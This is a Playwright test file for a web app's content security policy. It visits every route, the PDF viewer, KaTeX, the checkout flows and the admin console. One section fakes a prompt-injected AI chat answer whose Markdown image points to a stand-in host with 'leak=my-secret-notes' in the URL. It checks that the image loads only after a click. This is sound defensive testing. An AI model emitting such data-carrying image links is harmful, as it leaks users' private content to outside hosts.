import { mkdirSync, readFileSync } from 'node:fs';
import { expect, test, type APIRequestContext } from '@playwright/test';
import { ROUTES } from '../src/app/routes';
import { ADMIN_SECTIONS, sectionPath } from '../src/features/admin/lib/admin-sections';
import { adminToken, apiCall, latestEmailCode, sharedData, uniqueEmail } from './support';

// Every page of the route table runs under the server's content security policy
// (decision 0019) without one violation: pdf.js and its worker, KaTeX fonts,
// antd's injected styles, the QR code, the admin console, the sandbox checkout
// and the API docs. A remote image in an answer loads only after a click.

const PDF = sharedData('documents', 'pdf', 'pypdf_pdflatex-outline.pdf');
const SCREENS = 'test-results/screens';
const PASSWORD = 'csp12345';
/** A host the test answers itself (no network): the "attacker's" image server. */
const IMAGE_HOST = 'images.example.org';
const CHART_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="360" height="160" viewBox="0 0 360 160"><rect width="360" height="160" fill="#f5f7fb"/>' +
  [40, 90, 60, 120, 75].map((h, i) => `<rect x="${30 + i * 64}" y="${140 - h}" width="40" height="${h}" rx="4" fill="#1f5fd6"/>`).join('') +
  '<line x1="20" y1="140" x2="340" y2="140" stroke="#8a93a5"/></svg>';

interface Violation {
  page: string;
  text: string;
}

/** Values for the route table's parameters and the query a page needs to show real content. */
interface Samples {
  paperId: string;
  packageId: number;
  docId: number;
  writeId: number;
}

function concretePaths(samples: Samples): { path: string; auth?: 'user' | 'operator' | 'admin' }[] {
  const fill: Record<string, string> = {
    '/academic_search/detail/:id': `/academic_search/detail/${samples.paperId}`,
    '/policy/:type': '/policy/privacy',
    '/openvip/:id': `/openvip/${samples.packageId}`,
    '/doc/details': `/doc/details?id=${samples.docId}`,
    '/doc/chat': `/doc/chat?ids=${samples.docId}`,
    '/doc/h5': `/doc/h5?id=${samples.docId}`,
    '/components/doc-detail': `/components/doc-detail?id=${samples.docId}`,
    '/paper/write/:id': `/paper/write/${samples.writeId}`,
    // No report, article or help page exists on this fresh server: these pages show their not-found view, which must run under the policy too.
    '/paper/check/:id': '/paper/check/1',
    '/news/detail/:id': '/news/detail/1',
    '/help/:id': '/help/1',
  };
  const staff = (auth: string | undefined) => auth === 'admin' || auth === 'operator';
  const paths = ROUTES.filter((route) => !staff(route.auth)).map((route) => {
    const path = fill[route.path] ?? route.path;
    // A new route with a parameter needs a sample here, or this test would visit a page that cannot show anything.
    expect(path, `no sample value for ${route.path}`).not.toMatch(/[:*]/);
    return { path, auth: route.auth };
  });
  const admin = ROUTES.filter((route) => staff(route.auth)).flatMap((route) => {
    expect(route.path, 'admin routes are the console').toBe('/admin/*');
    return ADMIN_SECTIONS.map((section) => ({ path: sectionPath(section.key), auth: 'admin' as const }));
  });
  return [...paths, ...admin];
}

async function registerThroughApi(request: APIRequestContext, email: string): Promise<string> {
  const sent = await apiCall(request, 'POST', '/email/sendCode', { data: { email, scene: 'register' } });
  expect(sent.code, sent.msg).toBe(1);
  const code = await latestEmailCode(email);
  const registered = await apiCall<{ token: string }>(request, 'POST', '/login/register', { data: { email, code, password: PASSWORD, password_confirm: PASSWORD } });
  expect(registered.code, registered.msg).toBe(1);
  // As a person who closed the organisation popup once: it stays away for a week.
  const dismissed = await apiCall(request, 'POST', '/user/logOrgEditNotify', { token: registered.data.token, data: { action: 'dismissed' } });
  expect(dismissed.code, dismissed.msg).toBe(1);
  return registered.data.token;
}

async function uploadPdf(request: APIRequestContext, token: string): Promise<number> {
  const response = await request.post('/api/doc/upload', {
    headers: { token, 'accept-language': 'en' },
    multipart: { type: 'research_report', 'file[]': { name: 'outline.pdf', mimeType: 'application/pdf', buffer: readFileSync(PDF) } },
  });
  const body = (await response.json()) as { code: number; msg: string; data: { files: { doc: { id: number } | null }[] } };
  expect(body.code, body.msg).toBe(1);
  const id = body.data.files[0]?.doc?.id;
  expect(id).toBeTruthy();
  return id!;
}

async function waitUntilProcessed(request: APIRequestContext, token: string, id: number): Promise<void> {
  await expect(async () => {
    const list = await apiCall<{ lists: { id: number; status: string }[] }>(request, 'GET', '/doc/lists', { token });
    expect(list.data.lists.find((doc) => doc.id === id)?.status).toBe('complete');
  }).toPass({ timeout: 60_000, intervals: [500] });
}

/** A canned answer stream (the e2e model's answer is fixed) whose Markdown carries a remote image with data in its URL. */
function answerWithRemoteImage(): string {
  const events = [
    { type: 'start', conversation_id: null, user_message_id: null, assistant_message_id: null, model: 'fake-model', model_name: 'Fake', offline: false, title: null },
    { type: 'delta', text: 'Here is the chart you asked for:\n\n' },
    { type: 'delta', text: `![Quarterly sales chart](https://${IMAGE_HOST}/chart.svg?leak=my-secret-notes)\n\nAnd the formula $a^2+b^2=c^2$.` },
    { type: 'end', message_id: null, status: 'done', usage: { prompt_tokens: 1, completion_tokens: 1, words: 12 }, charged: null, balance: null },
  ];
  return events.map((event) => `event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`).join('');
}

test('every page runs under the content security policy without a violation; remote answer images wait for a click', async ({ page, context, request }) => {
  // About a minute on an idle machine; the margin is for a shared one.
  test.setTimeout(240_000);
  mkdirSync(SCREENS, { recursive: true });
  const violations: Violation[] = [];
  const visited: string[] = [];
  await context.exposeBinding('reportCspViolation', ({ page: from }, text: string) => violations.push({ page: from.url(), text }));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const report = (window as unknown as { reportCspViolation: (text: string) => void }).reportCspViolation;
      void report(`${event.effectiveDirective} blocked ${event.blockedURI || '(inline)'} at ${event.sourceFile}:${event.lineNumber}`);
    });
  });
  // Violations in workers (pdf.js) and the browser's own CSP reports reach the console, not the document.
  context.on('console', (message) => {
    if (/content.security.policy/i.test(message.text())) violations.push({ page: message.page()?.url() ?? '?', text: message.text() });
  });

  // A page counts as shown once its chunk has loaded and the network has been quiet for a moment.
  let inflight = 0;
  page.on('request', () => (inflight += 1));
  page.on('requestfinished', () => (inflight -= 1));
  page.on('requestfailed', () => (inflight -= 1));
  async function quiet(): Promise<void> {
    const deadline = Date.now() + 8000;
    let idleSince = Date.now();
    while (Date.now() < deadline) {
      if (inflight > 0) idleSince = Date.now();
      else if (Date.now() - idleSince >= 250) return;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  }

  /**
   * Within the app, a page is reached as a click on a link would reach it (the router follows the
   * history), so one policy and one set of listeners see every page; other documents are loaded.
   */
  async function visit(path: string, ready?: () => Promise<void>): Promise<void> {
    const inApp = !path.startsWith('/api/') && (await page.evaluate(() => Boolean(document.getElementById('root')?.childElementCount)));
    if (inApp) {
      await page.evaluate((target) => {
        history.pushState(null, '', target);
        dispatchEvent(new PopStateEvent('popstate'));
      }, path);
    } else await page.goto(path);
    await page.waitForFunction(() => !document.querySelector('.page-spinner'));
    await quiet();
    if (ready) await ready();
    visited.push(path);
  }

  // The policy itself: scripts from this origin only, framed by this origin only.
  const index = await page.goto('/');
  const csp = index?.headers()['content-security-policy'] ?? '';
  const scriptSrc = /script-src ([^;]*)/.exec(csp)?.[1] ?? '';
  expect(scriptSrc).toContain("'self'");
  expect(scriptSrc).not.toContain('unsafe-inline');
  expect(scriptSrc).not.toContain("'unsafe-eval'");
  expect(csp).toContain("frame-ancestors 'self'");
  expect(index?.headers()['referrer-policy']).toBeTruthy();
  expect(index?.headers()['permissions-policy']).toBeTruthy();

  // A member with a processed PDF, a package and a paper to show. The session cookie signs the browser in (as after OAuth).
  const email = uniqueEmail('csp');
  const token = await registerThroughApi(request, email);
  await context.addCookies([{ name: 'token', value: token, url: index!.url() }]);
  await page.reload();
  await expect(page.getByTestId('user-menu')).toBeVisible();
  const admin = await adminToken(request);
  const users = await apiCall<{ lists: { id: number; email: string | null }[] }>(request, 'GET', '/admin/users', { token: admin, params: { keyword: email } });
  const granted = await apiCall(request, 'POST', '/admin/user/membership', {
    token: admin,
    data: { user_id: users.data.lists.find((u) => u.email === email)?.id, kind: 'research_report', level: 'vip', months: 1 },
  });
  expect(granted.code, granted.msg).toBe(1);
  const docId = await uploadPdf(request, token);
  const packages = await apiCall<{ lists: { id: number }[] }>(request, 'GET', '/member/packages');
  const papers = await apiCall<{ lists: { id: string }[] }>(request, 'GET', '/paper/search', { params: { keyword: 'translation' } });
  const project = await apiCall<{ id: number }>(request, 'POST', '/paper/write/create', { token, data: { title: 'CSP sample', topic: 'machine translation' } });
  expect(project.code, project.msg).toBe(1);
  const samples: Samples = { paperId: papers.data.lists[0]?.id ?? '1', packageId: packages.data.lists[0]!.id, docId, writeId: project.data.id };
  await waitUntilProcessed(request, token, docId);

  const paths = concretePaths(samples);
  for (const { path } of paths.filter((p) => p.auth !== 'admin')) {
    if (path.startsWith('/doc/details')) {
      // The PDF in the viewer: pdf.js, its module worker, standard fonts and CMaps.
      await visit(path, async () => {
        await expect(page.locator('[data-testid="pdf-page"][data-page="1"]')).toHaveAttribute('data-rendered', 'true', { timeout: 30_000 });
      });
    } else await visit(path);
  }
  // The other interface languages load their bundles on demand: one page in each.
  for (const prefix of ['/en', '/ja', '/ko']) await visit(`${prefix}/chat`);

  // KaTeX: the e2e model's answer starts with a formula; its fonts load from this origin.
  await page.goto('/chat');
  await page.getByTestId('chat-input').fill('What is mass-energy equivalence?');
  await page.getByTestId('chat-send').click();
  await expect(page.getByTestId('message-assistant').first()).toHaveAttribute('data-status', 'done', { timeout: 30_000 });
  await expect(page.getByTestId('message-assistant').first().locator('.katex').first()).toBeVisible();
  const katexFonts = await page.evaluate(async () => {
    await document.fonts.ready;
    return [...document.fonts].filter((face) => face.family.includes('KaTeX') && face.status === 'loaded').length;
  });
  expect(katexFonts).toBeGreaterThan(0);

  // A prompt-injected answer with a remote image: no request to its host until the reader clicks.
  const imageRequests: string[] = [];
  await page.route(`https://${IMAGE_HOST}/**`, async (route) => {
    imageRequests.push(route.request().url());
    await route.fulfill({ status: 200, contentType: 'image/svg+xml', body: CHART_SVG });
  });
  await page.route('**/api/chat/send', (route) => route.fulfill({ status: 200, contentType: 'text/event-stream', body: answerWithRemoteImage() }));
  await page.goto('/chat');
  await page.getByTestId('chat-input').fill('Show me the sales chart');
  await page.getByTestId('chat-send').click();
  const answer = page.getByTestId('message-assistant').last();
  const gate = answer.getByTestId('md-image-gate');
  await expect(gate).toBeVisible();
  await expect(gate).toContainText('images.example.org');
  await expect(answer.locator('.katex')).toBeVisible();
  // Settled: the page has made every request the render causes.
  await page.waitForLoadState('networkidle');
  expect(imageRequests).toEqual([]);
  await expect(answer.locator(`img[src^="https://${IMAGE_HOST}"]`)).toHaveCount(0);
  await answer.scrollIntoViewIfNeeded();
  await answer.screenshot({ path: `${SCREENS}/answer-image-gate.png` });
  await gate.hover();
  await answer.screenshot({ path: `${SCREENS}/answer-image-gate-hover.png` });
  await gate.click();
  const image = answer.locator(`img[src^="https://${IMAGE_HOST}"]`);
  await expect(image).toBeVisible();
  await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(0);
  expect(imageRequests).toHaveLength(1);
  await answer.screenshot({ path: `${SCREENS}/answer-image-loaded.png` });
  await page.unrouteAll({ behavior: 'wait' });

  // The QR code of a WeChat Native order (the e2e server has only the sandbox: its order is given a code URL on the way back).
  await page.route('**/api/order/create', async (route) => {
    const response = await route.fetch();
    const body = (await response.json()) as { data: Record<string, unknown> };
    body.data = { ...body.data, pay_url: null, code_url: 'weixin://wxpay/bizpayurl?pr=e2eCspQr' };
    await route.fulfill({ response, json: body });
  });
  await visit('/recharge');
  await page.locator('[data-testid^="buy-"]').first().click();
  await page.getByTestId('gateway-sandbox').click();
  await page.getByTestId('pay-agreement').check();
  await page.getByTestId('checkout-submit').click();
  await expect(page.getByTestId('pay-qr')).toBeVisible();
  await page.unrouteAll({ behavior: 'wait' });

  // The sandbox's hosted checkout page (its own stricter policy).
  const order = await apiCall<{ pay_url: string }>(request, 'POST', '/order/create', { token, data: { package_id: samples.packageId, kind: 'member', gateway: 'sandbox' } });
  expect(order.code, order.msg).toBe(1);
  await visit(new URL(order.data.pay_url).pathname + new URL(order.data.pay_url).search, async () => {
    await expect(page.getByRole('button', { name: 'Pay' })).toBeVisible();
  });

  // The administrator's console, every panel.
  await context.addCookies([{ name: 'token', value: admin, url: index!.url() }]);
  await page.goto('/admin');
  for (const { path } of paths.filter((p) => p.auth === 'admin')) {
    await visit(path, async () => {
      await expect(page.locator('#admin-panel-title')).toBeVisible();
    });
  }

  // The API docs (swagger-ui).
  await visit('/api/docs', async () => {
    await expect(page.locator('.swagger-ui .info .title')).toContainText('Xueba API');
  });

  process.stdout.write(`pages visited under CSP: ${visited.length}, violations: ${violations.length}\n`);
  expect(violations, JSON.stringify(violations, null, 1)).toEqual([]);
});
